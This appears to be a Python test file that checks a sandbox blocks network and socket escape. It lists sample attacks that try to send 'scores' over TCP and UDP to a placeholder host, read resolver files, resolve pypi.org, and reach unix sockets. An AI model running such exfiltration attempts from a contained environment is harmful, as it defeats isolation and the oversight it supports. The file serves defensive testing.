"""No byte leaves or enters but through the pipe."""

from __future__ import annotations

ATTACKS = (
    (
        "TCP",
        """
import socket
for host in ('127.0.0.1', '@ADDRESS@'):
    try:
        socket.create_connection((host, @TCP@), timeout=1).send(b'scores')
    except OSError:
        continue
    raise Stolen(host)
""",
    ),
    (
        "UDP",
        """
import socket
for host in ('127.0.0.1', '@ADDRESS@'):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'scores', (host, @UDP@))
    except OSError:
        pass
""",
    ),
    (
        "DNS",
        """
import socket
if readable('/etc/resolv.conf') or readable('/etc/hosts'): raise Stolen
try:
    socket.getaddrinfo('pypi.org', 443)
except OSError:
    pass
else:
    raise Stolen
""",
    ),
    (
        "unix sockets, by path and abstract",
        r"""
import socket
for address in ('@UNIX@', '\0@ABSTRACT@'):
    try:
        socket.socket(socket.AF_UNIX).connect(address)
    except OSError:
        continue
    raise Stolen(address)
""",
    ),
)


def test_an_attack_is_contained(attack, contained):
    contained(attack)
